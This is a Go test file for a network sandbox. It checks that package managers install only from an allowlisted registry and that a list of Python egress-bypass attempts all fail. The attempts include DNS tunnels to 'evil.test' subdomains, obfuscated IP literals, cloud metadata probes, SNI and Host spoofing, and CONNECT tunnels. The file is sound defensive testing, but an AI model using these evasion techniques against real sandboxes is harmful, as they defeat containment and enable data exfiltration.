package network

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// installer is an unmodified package manager, which installs a package from one registry and uses it.
type installer struct {
	program, script string
	registry        string
	got             []string // the files of the registry that it takes
}

var installers = []installer{
	{program: "npm", registry: "npm.test", got: []string{"/nsrun-tiny", "/nsrun-tiny/-/nsrun-tiny-1.0.0.tgz"},
		// A cafile in the machine's npmrc would replace NODE_EXTRA_CA_CERTS.
		script: `export NODE_EXTRA_CA_CERTS={CA} npm_config_cafile={CA} npm_config_registry=https://npm.test/; npm install nsrun-tiny && node -p "require('nsrun-tiny')"`},
	{program: "pip", registry: "pypi.test", got: []string{"/simple/nsrun-tiny/", "/files/nsrun_tiny-1.0.0-py3-none-any.whl"},
		script: `PIP_CERT={CA} PIP_INDEX_URL=https://pypi.test/simple /usr/bin/python3 -m pip install --target lib nsrun-tiny && PYTHONPATH=lib /usr/bin/python3 -c "import nsrun_tiny; print(nsrun_tiny.text)"`},
	{program: "go", registry: "goproxy.test", got: []string{"/nsrun.test/tiny/@v/v1.0.0.mod", "/nsrun.test/tiny/@v/v1.0.0.zip"},
		script: `export SSL_CERT_FILE={CA} GOPROXY=https://goproxy.test GOFLAGS=-mod=mod GONOSUMDB='*' GONOSUMCHECK=1 GOTOOLCHAIN=local GOCACHE=$PWD/cache GOPATH=$PWD/go
printf 'package main\n\nimport "nsrun.test/tiny"\n\nfunc main() { println(tiny.Text) }\n' >main.go
go mod init example.test/main && go get nsrun.test/tiny && cat $(go list -m -f '{{.Dir}}' nsrun.test/tiny)/tiny.go; code=$?; go clean -modcache; exit $code`},
}

// present skips if what the installer takes is not there.
func (i installer) present(t *testing.T) {
	t.Helper()
	err := error(nil)
	if i.program == "pip" {
		err = exec.Command("/usr/bin/python3", "-m", "pip", "--version").Run()
	} else {
		_, err = exec.LookPath(i.program)
	}
	if err != nil {
		missing(t, i.program)
	}
}

func (i installer) text() string { return strings.ReplaceAll(i.script, "{CA}", shared()+"/ca.pem") }

// TestInstallers: a package manager installs from the one registry that is listed. Nothing else is looked up, and no packet goes elsewhere.
func TestInstallers(t *testing.T) {
	eachUser(t, func(t *testing.T, w *world) {
		for _, i := range installers {
			t.Run(i.program, func(t *testing.T) {
				i.present(t)
				w := newWorld(t, w.name, w.uid, w.gid)
				before := map[string]int{}
				for _, file := range i.got {
					before[file] = hitsOf(i.registry + " " + file)
				}
				forget()
				got := w.run(t, allow("https://"+i.registry), i.text())
				assert.Contains(t, got.out, packageText)
				assert.Equal(t, 0, got.Code, got.out)
				onlyWentTo(t, got, i.registry)
				for _, file := range i.got {
					assert.Greater(t, hitsOf(i.registry+" "+file), before[file], file)
				}
			})
		}
	})
}

// onlyWentTo checks that one name was looked up, and that every packet went to its ports 80 and 443, or to the resolver.
func onlyWentTo(t *testing.T, got outcome, name string) {
	t.Helper()
	asked, packets := left()
	assert.Equal(t, []string{name}, asked)
	for _, p := range packets {
		assert.Contains(t, []string{"17 " + nameServer + ":53", "6 " + zone[name] + ":80", "6 " + zone[name] + ":443"}, p)
	}
	require.NotNil(t, got.Receipt.Allow)
	require.Len(t, got.Receipt.Allow.Reached, 1, got.out)
	assert.Equal(t, name, got.Receipt.Allow.Reached[0].Name)
}

// attempt is a way around a list that names npm.test alone: an expression of Python, which returns what it has got.
type attempt struct {
	name, try      string
	refused        string // the denial that it leaves, or empty where the kernel refuses
	reason         string // in that denial
	notEvenOutside bool   // it gets nothing without a sandbox either
}

var attempts = []attempt{
	{name: "an unlisted registry", try: "https('unlisted.test')", refused: "unlisted.test", reason: "no rule names unlisted.test"},
	{name: "another registry", try: "https('pypi.test')", refused: "pypi.test", reason: "no rule names pypi.test"},
	{name: "a literal address", try: "tcp('203.0.113.21', 7000)", refused: "203.0.113.21:7000", reason: "no rule lists 203.0.113.21"},
	{name: "a decimal literal", try: "tcp('3405803798', 7000)", refused: "203.0.113.22:7000", reason: "no rule lists 203.0.113.22"},
	{name: "a mapped literal", try: "tcp('::ffff:203.0.113.24', 7000)", refused: "203.0.113.24:7000", reason: "no rule lists 203.0.113.24"},
	{name: "an IPv6 literal", try: "tcp('2001:db8::10', 7000)", refused: "[2001:db8::10]:7000", reason: "no rule lists 2001:db8::10"},
	{name: "another port", try: "tcp('npm.test', 7000)", refused: "npm.test:7000", reason: "not this port"},
	{name: "a DNS tunnel", try: "''.join(name(b + '.evil.test') for b in ['abcdef', '012345', '6789ab'])", refused: "abcdef.evil.test", reason: "no rule names abcdef.evil.test"},
	{name: "a DNS tunnel below the listed name", try: "name('abcdef.npm.test')", refused: "abcdef.npm.test", reason: "no rule names abcdef.npm.test"},
	{name: "DNS to another resolver", try: "query('192.0.2.53', 'fedcba.evil.test')", refused: "fedcba.evil.test", reason: "no rule names fedcba.evil.test"},
	{name: "UDP", try: "udp('203.0.113.10', 9999)"},
	{name: "the host's loopback", try: "tcp('127.0.0.1', 7000)"},
	{name: "the host's IPv6 loopback", try: "tcp('::1', 7000)"},
	{name: "the host's address", try: "tcp('192.0.2.1', 7000)", refused: "192.0.2.1:7000", reason: "one of the host's own addresses"},
	{name: "a metadata service", try: "tcp('169.254.169.254', 80)", refused: "169.254.169.254:80", reason: "169.254.169.254", notEvenOutside: true},
	{name: "another name in TLS", try: "https('npm.test', sni='unlisted.test')", refused: "npm.test:443", reason: "unlisted.test"},
	{name: "another Host", try: "http('npm.test', 'unlisted.test')", refused: "npm.test:80", reason: "unlisted.test"},
	{name: "a tunnel through the registry", try: "connect('npm.test', 80, 'unlisted.test:7000')", refused: "npm.test:80", notEvenOutside: true},
	{name: "a proxy's variables", try: "proxy('http://192.0.2.1:80', 'http://unlisted.test/hello')", refused: "192.0.2.1:80", reason: "one of the host's own addresses"},
}

const attemptsHead = `
import os, socket, ssl, sys, urllib.request
def expect(text, *wanted):
    if not any(w in text for w in wanted): raise OSError('got ' + repr(text[:60]))
    return text
def tcp(host, port):
    with socket.create_connection((host, port), 3) as s:
        s.sendall(b'over\n'); return expect(s.recv(100), b'over')
def request(s, host):
    s.sendall(b'GET /hello HTTP/1.1\r\nHost: ' + host.encode() + b'\r\nConnection: close\r\n\r\n')
    return expect(s.recv(1000) + s.recv(1000), b'hello from')
def http(at, host):
    with socket.create_connection((at, 80), 3) as s: return request(s, host)
def https(at, sni=None):
    c = ssl.create_default_context(cafile=sys.argv[1])
    with socket.create_connection((at, 443), 3) as s, c.wrap_socket(s, server_hostname=sni or at) as t: return request(t, sni or at)
def name(n): return socket.getaddrinfo(n, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
def udp(host, port, data=b'over'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.connect((host, port)); s.send(data); return s.recv(512)
def query(at, n):
    r = udp(at, 53, b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\x00\x00\x01\x00\x01')
    if r[3] & 15: raise OSError('rcode %d' % (r[3] & 15))
    return r
def connect(host, port, to):
    with socket.create_connection((host, port), 3) as s:
        s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\nover\n' % (to, to)).encode()); return expect(s.recv(1000), b'over')
def proxy(at, url):
    os.environ['http_proxy'] = at
    return expect(urllib.request.urlopen(url, timeout=3).read(), b'hello from')
def attempt(what, f):
    try: print('%s: REACHED %r' % (what, f()), flush=True)
    except Exception as e: print('%s: failed: %r' % (what, e), flush=True)
`

// TestAttemptsBesideARegistry: while npm installs from the one registry that is listed, no way around the list gets anywhere, and each leaves its denial
// with a reason.
func TestAttemptsBesideARegistry(t *testing.T) {
	text := attemptsHead
	for _, a := range attempts {
		if internetHas(a) {
			text += "attempt(" + `"` + a.name + `", lambda: ` + a.try + ")\n"
		}
	}
	program := filepath.Join(shared(), "attempts.py")
	require.NoError(t, os.WriteFile(program, []byte(text), 0o644))
	script := "/usr/bin/python3 " + program + " " + shared() + "/ca.pem"
	eachUser(t, func(t *testing.T, w *world) {
		npm := installers[0]
		npm.present(t)
		forget()
		got := w.run(t, allow("npm.test"), script+"; "+npm.text())
		assert.Equal(t, 0, got.Code, got.out)
		assert.Contains(t, got.out, packageText)
		onlyWentTo(t, got, "npm.test")
		free, err := w.command("sh", "-c", script).CombinedOutput()
		require.NoError(t, err, "%s", free)
		for _, a := range attempts {
			if !internetHas(a) {
				continue
			}
			assert.Contains(t, got.out, a.name+": failed", "in the sandbox")
			if !a.notEvenOutside {
				assert.Contains(t, string(free), a.name+": REACHED", "the control")
			}
			if a.refused != "" {
				assert.True(t, got.refusedFor(a.refused, a.reason), "%s: a denial of %s for %q is missing: %+v", a.name, a.refused, a.reason, got.Denials)
			}
		}
	})
}

// internetHas reports whether the internet has what an attempt takes.
func internetHas(a attempt) bool { return internet.v6 || !strings.Contains(a.name, "IPv6") }

// refusedFor reports whether there is a denial of the network of path with a reason.
func (o outcome) refusedFor(path, reason string) bool {
	for _, d := range o.Denials {
		if d.Kind == "net" && d.Path == path && strings.Contains(d.Reason, reason) && d.Count > 0 {
			return true
		}
	}
	return false
}
